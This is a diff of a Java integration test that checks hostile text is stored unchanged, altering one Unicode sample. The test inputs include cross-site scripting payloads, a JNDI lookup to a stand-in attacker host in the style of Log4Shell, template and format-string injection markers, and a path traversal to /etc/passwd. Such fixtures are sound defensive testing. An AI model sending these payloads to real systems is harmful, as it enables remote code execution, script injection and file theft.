@@ -29,7 +29,7 @@ class HostileTextIT {
                     "<script>alert('x')</script>",
                     "\"><img src=x onerror=alert(1)>",
                     "${jndi:ldap://evil.example/x} #{7*7} {0} %s %n",
-                    "O'Brien & Söhne \\ \" 😀 \u202Egnp",
+                    "O'Brien & Söhne \\ \" 😀 𠮷",
                     "../../etc/passwd"
                 })
         void is_kept_as_it_is_and_breaks_nothing(String text) {
